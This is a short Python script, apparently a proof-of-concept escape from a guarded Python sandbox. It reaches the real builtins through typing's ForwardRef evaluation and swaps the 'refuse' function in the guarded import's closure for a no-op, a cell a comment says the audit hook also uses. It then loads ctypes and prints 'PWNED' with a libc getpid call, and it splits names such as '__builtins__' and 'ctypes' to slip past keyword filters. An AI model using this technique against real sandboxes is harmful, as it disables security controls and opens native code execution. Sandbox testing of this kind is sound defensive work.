# ctypes: the refuse cell in the guarded import's closure (shared with the hook) replaced, then ctypes
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

gi = rb["glob" + "als"]()["__buil" + "tins__"]["__imp" + "ort__"]  # the guarded import
for c in ga(gi, "__clo" + "sure__"):
    if ga(c.cell_contents, "__na" + "me__", "") == "refuse":
        c.cell_contents = lambda what: None  # shared with the hook's judge()
c = imp("ctyp" + "es")
print(M, "libc getpid:", c.CDLL(None).getpid())
